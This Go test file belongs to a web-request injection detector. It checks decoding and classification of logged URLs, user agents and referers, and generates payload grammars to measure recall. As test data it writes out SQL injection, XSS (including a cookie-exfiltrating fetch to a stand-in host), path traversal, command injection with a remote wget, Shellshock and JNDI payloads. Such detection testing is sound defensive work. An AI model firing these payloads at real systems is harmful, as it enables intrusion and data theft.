package injection

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestDecode(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"plain", "plain"}, {"a+b", "a b"}, {"%3Cscript%3E", "<script>"}, {"%253Cscript%253E", "<script>"}, {"%u003Cb%u003e", "<b>"},
		{`\x3cb\x3e`, "<b>"}, {`\u003cb`, "<b"}, {"&lt;b&gt;", "<b>"}, {"&#60;b&#x3e;", "<b>"}, {"&#0000060b", "<b"}, {"%26lt%3Bb", "<b"},
		{"%c0%ae%c0%ae%c0%af", "../"}, {"%e0%80%ae", "."}, {"＜script＞", "<script>"}, {"a%00b", "ab"}, {"100%", "100%"}, {"%zz", "%zz"}, {"AT&T", "AT&T"}, {"caf\u00e9", "caf\u00e9"}, {"%2B", "+"}, {"a&ampb", "a&ampb"},
	} {
		if got := Decode(c.in, true); got != c.want {
			t.Errorf("Decode(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestJudge holds targets as logs have them against the kinds that must be
// found, and no other.
func TestJudge(t *testing.T) {
	for _, c := range []struct {
		target string
		want   Class
	}{
		{"/", 0}, {"/index.html?page=2", 0}, {"/search?q=rock+%27n%27+roll", 0}, {"/search?q=O%27Reilly+and+sons", 0}, {"/?q=select+a+car+from+the+list", 0},
		{"/?q=union+of+select+committees", 0}, {"/?q=1+or+2+rooms", 0}, {"/?q=drop+leaf+table", 0}, {"/?q=a%3C5+and+c%3E2", 0}, {"/?q=I+%3C3+you", 0}, {"/?mail=Joe+%3Cjoe%40example.org%3E", 0},
		{"/?url=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc%26d%3De", 0}, {"/?fields=name|id|type", 0}, {"/?ring=x;list", 0}, {"/?q=JavaScript%3A+The+Good+Parts", 0}, {"/?date=2024-05-01T10:00:00%2B02:00", 0},
		{"/?q=it%27s+5+o%27clock", 0}, {"/?q=%22exact+phrase%22+-other", 0}, {"/?size=10%22+x+12%22", 0}, {"/?q=alert+(news)", 0}, {"/w/index.php?title=Talk:SQL&action=edit", 0}, {"/?img=../images/a.png", 0}, {"/?t=50%25+off", 0}, {"/?filter=price+gt+10+and+price+lt+20", 0}, {"/?json=%7B%22a%22%3A%5B1%2C2%5D%7D", 0}, {"/?q=where+is+george", 0}, {"/?q=cat+food;+dog+food", 0}, {"/?callback=jQuery123_456&_=1", 0}, {"/?q=m%26m%27s", 0},
		{"/?s=%3Cscript%3Ealert%28%22XSS%22%29%3B%3C%2Fscript%3E", XSS},
		{"/?s=UNION+SELECT+ALL+FROM+information_schema+AND+%27+or+SLEEP%285%29+or+%27", SQLi},
		{"/?a=%3Cscript%3Ealert%28%22XSS%22%29%3B%3C%2Fscript%3E&b=UNION+SELECT+ALL+FROM+information_schema+AND+%27+or+SLEEP%285%29+or+%27&c=..%2F..%2F..%2F..%2Fetc%2Fpasswd", XSS | SQLi | Traversal},
		{"/?id=1%27%20OR%20%271%27=%271", SQLi}, {"/?id=1%2527%2520OR%25201=1--", SQLi}, {"/?user=admin%27--", SQLi}, {"/?id=1+AND+1=1", SQLi}, {"/?id=1;WAITFOR+DELAY+%270:0:5%27--", SQLi}, {"/?id=-1/**/UNION/**/SELECT/**/1,2,3", SQLi}, {"/?id=1/*!50000UNION*//*!50000SELECT*/1", SQLi}, {"/?id=(select(0)from(select(sleep(5)))v)", SQLi}, {"/item/1'%20AND%20SLEEP(5)--%20-", SQLi}, {"/?id=1%20ORDER%20BY%2010--", SQLi}, {"/?q='%20and%20extractvalue(1,concat(0x7e,version()))--", SQLi}, {"/?q=%27%7C%7C%27", SQLi},
		{"/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", XSS}, {"/?q=%22%20onmouseover=alert(1)%20a=%22", XSS}, {"/?u=java%0Ascript:alert(1)", XSS}, {"/?u=data:text/html;base64,PHNjcmlwdD4=", XSS}, {"/?q=%26lt%3Bsvg/onload=alert(1)%26gt%3B", XSS}, {"/?q='-alert(1)-'", XSS}, {"/?q=%3C/title%3E%3Cb%3E", XSS}, {"/?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)", XSS},
		{"/?f=../../../../etc/passwd", Traversal}, {"/?f=..%252f..%252fetc%252fpasswd", Traversal}, {"/static/..%2f..%2f..%2fetc/passwd", Traversal}, {"/?f=/etc/passwd", Traversal}, {"/?f=C:%5CWindows%5Cwin.ini", Traversal}, {"/?f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", Traversal}, {"/?f=php://filter/convert.base64-encode/resource=index.php", Traversal},
		{"/?ip=127.0.0.1;cat%20/tmp/x", Command}, {"/?x=$(whoami)", Command}, {"/?x=%60id%60", Command}, {"/?x=1|uname%20-a", Command}, {"/?cmd=a%26%26wget%20http://example.org/x.sh", Command},
		{"/?x=${jndi:ldap://example.org/a}", Code}, {"/?x={{7*7}}", Code}, {"/?u=http://169.254.169.254/latest/meta-data/", Code}, {"/?a[$ne]=1", Code}, {"/?x=%0d%0aSet-Cookie:a=b", Code},
		{"/.env", Secrets}, {"/.git/config", Secrets}, {"/backup.zip", Secrets}, {"/wp-config.php.bak", Secrets}, {"/dump.sql", Secrets}, {"/id_rsa", Secrets},
		{"/docs/", APIDocs}, {"/openapi.json", APIDocs}, {"/docs/swagger-ui.css", APIDocs}, {"/api-doc/openapi.json", APIDocs}, {"/boaform/admin/formLogin", Scanner},
	} {
		path, query, has := strings.Cut(c.target, "?")
		if has {
			query = "?" + query
		}
		v := Judge(path, query)
		if v.Classes != c.want {
			t.Errorf("%s: %q %v, want %q", c.target, v.Classes, v.Findings, c.want)
		}
		for _, f := range v.Findings {
			if f.Technique == "" || f.Where == "" || f.Class&v.Classes == 0 {
				t.Errorf("%s: %+v", c.target, f)
			}
		}
	}
}

func TestHeaders(t *testing.T) {
	for agent, want := range map[string]Class{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36": 0,
		"": 0, "-": 0, "curl/8.5.0": 0, "sqlmap/1.8 (https://sqlmap.org)": Scanner, "Mozilla/5.0 zgrab/0.x": Scanner, "() { :; }; /bin/bash -c 'id'": Command, "${jndi:ldap://example.org/a}": Code, "<script>alert(1)</script>": XSS, "x' AND SLEEP(5)-- -": SQLi,
	} {
		if v := JudgeAgent(agent); v.Classes != want {
			t.Errorf("%s: %q, want %q", agent, v.Classes, want)
		}
	}
	for referer, want := range map[string]Class{"https://example.org/?q=a%20b": 0, "-": 0, "https://example.org/?q=<script>alert(1)</script>": XSS} {
		if v := JudgeReferer(referer); v.Classes != want {
			t.Errorf("%s: %q, want %q", referer, v.Classes, want)
		}
	}
}

func TestRuleSetIsThere(t *testing.T) {
	for _, name := range []string{"lfi-os-files.data", "restricted-files.data", "scanners-user-agents.data", "unix-shell.data", "unix-shell-builtins.data"} {
		if n := len(crsList(name)); n < 10 {
			t.Errorf("%s has %d entries", name, n)
		}
	}
	for _, c := range Classes() {
		if i := c.Info(); i.ID == "" || i.Name == "" || i.Description == "" || i.Risk == "" || i.Action == "" {
			t.Errorf("class %d: %+v", c, i)
		}
	}
}

// TestMatcher compares the automaton with looking for each word.
func TestMatcher(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	text := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = "abAB/"[rng.IntN(5)]
		}
		return string(b)
	}
	for range 2000 {
		var words []string
		for range 1 + rng.IntN(6) {
			words = append(words, text(1+rng.IntN(4)))
		}
		s := text(rng.IntN(30))
		want := slices.ContainsFunc(words, func(w string) bool { return strings.Contains(strings.ToLower(s), strings.ToLower(w)) })
		got := false
		newMatcher(words).find(s, func(w string, end int) bool {
			got = true
			if !strings.HasSuffix(strings.ToLower(s[:end]), w) {
				t.Fatalf("%q in %q does not end at %d", w, s, end)
			}
			return true
		})
		if got != want {
			t.Fatalf("%q in %q: %v, want %v", words, s, got, want)
		}
	}
}

// pick is a value of a grammar: each piece of a template in braces is
// replaced by one of its productions.
func pick(rng *rand.Rand, grammar map[string][]string, template string) string {
	for depth := 0; depth < 20; depth++ {
		i := strings.IndexByte(template, '{')
		if i < 0 {
			break
		}
		j := i + strings.IndexByte(template[i:], '}')
		options := grammar[template[i+1:j]]
		template = template[:i] + options[rng.IntN(len(options))] + template[j+1:]
	}
	return template
}

var sqlGrammar = map[string][]string{
	"value":   {"{broken}{space}{logic}{space}{truth}{tail}", "{broken}{space}UNION{space}{all}SELECT{space}{columns}{tail}", "{broken};{space}{stack}{tail}", "{broken}{space}AND{space}{time}{tail}", "{broken}{space}AND{space}{blind}{tail}", "{broken}{space}ORDER{space}BY{space}{number}{comment}", "{number}{space}AND{space}{truth}", "{number}{space}UNION{space}SELECT{space}{columns}", "{number};{space}{stack}{comment}", "({sub})", "{broken}{tail}{or}"},
	"or":      {" or 1=1--", "||(select 1)--"},
	"broken":  {"{number}'", "{name}'", "{number}\"", "{number}')", "{name}'))", "'", "-1'", "%'"},
	"number":  {"1", "42", "999", "-1", "3"},
	"name":    {"admin", "x", "test", "bob"},
	"space":   {" ", " ", " ", "/**/", "\n", "\t", "  "},
	"logic":   {"OR", "AND", "or", "And", "||", "&&", "xor"},
	"truth":   {"1=1", "2>1", "'a'='a'", "7777=7777", "{number} IN (1,2)", "(1)=(1)", "1 LIKE 1", "'x' LIKE 'x'", "5 BETWEEN 1 AND 9"},
	"tail":    {"{comment}", " {comment}"},
	"comment": {"-- -", "--", "#", "-- x", "/*"},
	"all":     {"", "ALL ", "DISTINCT "},
	"columns": {"NULL,NULL,NULL", "1,2,3", "username,password FROM users", "@@version", "table_name FROM information_schema.tables", "concat(user,0x3a,password),2 FROM mysql.user", "char(65,66)"},
	"stack":   {"DROP TABLE users", "INSERT INTO users VALUES (1,2)", "UPDATE users SET a=1", "EXEC xp_cmdshell 'dir'", "WAITFOR DELAY '0:0:5'", "SELECT pg_sleep(5)", "SHUTDOWN", "DECLARE @a int"},
	"time":    {"SLEEP(5)", "BENCHMARK(5000000,MD5(1))", "(SELECT * FROM (SELECT(SLEEP(5)))a)", "1=(SELECT 1 FROM PG_SLEEP(5))"},
	"blind":   {"ASCII(SUBSTRING((SELECT database()),1,1))>64", "(SELECT COUNT(*) FROM users)>0", "EXISTS(SELECT 1 FROM dual)", "extractvalue(1,concat(0x7e,version()))", "LENGTH(database())=5"},
	"sub":     {"select 1 from dual", "select(0)from(select(sleep(5)))v", "select user()"},
}

var htmlGrammar = map[string][]string{
	"value":  {"{break}{tag}", "{tag}", "{quote} {event}={call} x={quote}", "{quote};{call}//", "{quote}-{call}-{quote}", "javascript:{call}", "</script>{tag}", "{break}{tag}{text}"},
	"break":  {"\">", "'>", ">", "</title>", "-->", "\"/>", "</textarea>"},
	"quote":  {"\"", "'"},
	"tag":    {"<script>{call}</script>", "<img src=x {event}={call}>", "<svg/onload={call}>", "<svg><script>{call}</script>", "<iframe src=javascript:{call}>", "<body {event}={call}>", "<a href=javascript:{call}>x</a>", "<ScRiPt SrC=//example.org/a.js></sCrIpT>", "<details open ontoggle={call}>", "<x {event}={call}>", "<object data=data:text/html;base64,AAAA>", "<style>@import'//example.org'</style>", "<input autofocus onfocus={call}>", "<video><source onerror={call}></video>", "<math href=javascript:{call}>x</math>"},
	"event":  {"onerror", "onload", "onclick", "onmouseover", "onfocus", "onpointerenter", "onanimationstart"},
	"call":   {"alert(1)", "alert`1`", "confirm(document.domain)", "prompt(1)", "eval(atob('YQ=='))", "alert(String.fromCharCode(88))", "document.location='//example.org'", "(alert)(1)", "fetch('//example.org/'+document.cookie)", "top['alert'](1)"},
	"text":   {"hello", "1", ""},
	"number": {"1"},
}

var ordinaryGrammar = map[string][]string{
	"value": {"{word} {word} {word}", "{word}'s {word}", "\"{word} {word}\"", "{word} & {word}", "{word} and {word} or {word}", "{n}", "{n}-{n}-{n}", "{word}-{word}.html", "https://{word}.example/{word}?{word}={n}&{word}={word}", "{word}@{word}.example", "{word} ({word})", "{word}, {word}; {word}", "{n} x {n} cm", "{n}% {word}", "{n}\" {word}", "select {word} from {word}", "{word} union {word}", "{word}: {word} = {n}", "#{word} #{n}", "{word}/{word}/{n}", "{word} < {n}", "{word} -> {word}", "{word} -- {word}", "[{word}] {word}", "{word}|{word}|{word}", "O'{word} {n}", "like {word} in {word}", "{word} where {word} is {word}", "order by {word}", "{n} or {n} {word}", "{word}+{word}", "C++ {word}", "~{word}", "{word}?", "{word}!", "${n}.99", "{word}=={word}", "a:{n},b:{n}", "2024-01-{n}T10:00:00Z", "{word}_{n}.jpg"},
	"word":  {"table", "select", "house", "red", "Müller", "insert", "script", "group", "alert", "table", "drop", "update", "sleep", "java", "cat", "echo", "user", "null", "chair", "über", "data", "onion", "order", "join", "having", "London", "id", "char", "print", "from", "image", "eval"},
	"n":     {"1", "7", "12", "2024", "3.5", "100"},
}

// TestRecall holds generated values, encoded as clients encode them, against
// the rates that the detectors are built for. The generators know nothing of
// the detectors' rules.
func TestRecall(t *testing.T) {
	n := 6000
	if testing.Short() {
		n = 1000
	}
	encode := []func(string) string{url.QueryEscape, func(s string) string { return url.QueryEscape(url.QueryEscape(s)) }, func(s string) string { return strings.ReplaceAll(url.PathEscape(s), "+", "%2B") },
		func(s string) string {
			return strings.NewReplacer(" ", "+", "&", "%26", "+", "%2B", "%", "%25").Replace(s)
		}}
	rng := rand.New(rand.NewPCG(3, 5))
	for _, c := range []struct {
		grammar map[string][]string
		class   Class
		least   float64
	}{{sqlGrammar, SQLi, 0.99}, {htmlGrammar, XSS, 0.98}} {
		hits := 0
		var missed []string
		for range n {
			v := pick(rng, c.grammar, "{value}")
			if JudgeValue(encode[rng.IntN(len(encode))](v)).Classes&c.class != 0 {
				hits++
			} else if len(missed) < 10 {
				missed = append(missed, v)
			}
		}
		share := float64(hits) / float64(n)
		t.Logf("%s: recall %.4f of %d", c.class, share, n)
		if share < c.least {
			t.Errorf("%s: recall %.4f, want %.2f; missed %q", c.class, share, c.least, missed)
		}
	}
	false1 := 0
	var wrong []string
	for range 4 * n {
		v := pick(rng, ordinaryGrammar, "{value}")
		if got := JudgeValue(encode[rng.IntN(len(encode))](v)); got.Classes&(SQLi|XSS) != 0 {
			false1++
			if len(wrong) < 20 {
				wrong = append(wrong, fmt.Sprintf("%s: %v", v, got.Findings))
			}
		}
	}
	share := float64(false1) / float64(4*n)
	t.Logf("ordinary: %.4f false of %d", share, 4*n)
	if share > 0.003 {
		t.Errorf("ordinary: %.4f false, want at most 0.003: %s", share, strings.Join(wrong, "\n"))
	}
}

func FuzzJudge(f *testing.F) {
	for _, s := range []string{"/", "/?a=%3Cscript%3E", "/?id=1' OR 1=1--", "/..%2f..%2f", "/?x=${${::-j}ndi:}", "/?&&=&;", "/?a=&#x3c;&#", "/?'\"`(((", "/?x=/*!", "/?a=%u00", "/?%c0", "/?x=\\u{3c}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		path, query, _ := strings.Cut(s, "?")
		v := Judge(path, query)
		var union Class
		for _, g := range v.Findings {
			union |= g.Class
			if len(g.Value) > 200 {
				t.Errorf("a finding of %d bytes", len(g.Value))
			}
			if utf8.ValidString(s) && !strings.ContainsAny(s, "%\\&") && !utf8.ValidString(g.Value) {
				t.Errorf("%q is cut inside a letter", g.Value)
			}
		}
		if union != v.Classes {
			t.Errorf("classes %s, findings %s", v.Classes, union)
		}
		once := Decode(s, false)
		if len(once) > 4*len(s)+8 {
			t.Errorf("decoding %d bytes gives %d", len(s), len(once))
		}
		JudgeAgent(s)
		JudgeReferer(s)
	})
}

// TestOrdinaryTargetsCostNothing: what nearly every request looks like is
// judged without an allocation.
func TestOrdinaryTargetsCostNothing(t *testing.T) {
	for _, q := range []string{"", "?page=2&sort=name", "?id=a1b2c3d4&lang=en"} {
		if n := testing.AllocsPerRun(100, func() { Judge("/articles/a-title-of-words/42", q) }); n != 0 {
			t.Errorf("%q: %v allocations", q, n)
		}
	}
}

func BenchmarkJudge(b *testing.B) {
	for _, c := range []struct{ name, path, query string }{
		{"plain", "/articles/a-title-of-words/42", "?page=2&sort=name"},
		{"words", "/search", "?q=red+wooden+chair%2C+small"},
		{"attack", "/", "?a=%3Cscript%3Ealert%28%22XSS%22%29%3B%3C%2Fscript%3E&b=UNION+SELECT+ALL+FROM+information_schema+AND+%27+or+SLEEP%285%29+or+%27&c=..%2F..%2F..%2F..%2Fetc%2Fpasswd"},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Judge(c.path, c.query)
			}
		})
	}
}
